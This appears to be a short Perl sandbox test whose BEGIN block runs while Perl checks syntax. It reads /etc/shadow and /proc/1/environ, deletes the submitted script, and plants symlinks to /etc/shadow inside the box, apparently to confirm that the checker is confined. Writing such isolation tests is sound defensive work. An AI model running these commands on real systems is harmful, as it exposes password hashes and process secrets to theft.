# Perl runs this while it checks the syntax: it must be in a box by then, and what it leaves is no artefact.
BEGIN {
    system "cat /etc/shadow /proc/1/environ 2>&1";
    symlink "/etc/shadow", "/box/other";
    unlink "/box/main.pl";
    symlink "/etc/shadow", "/box/main.pl";
}
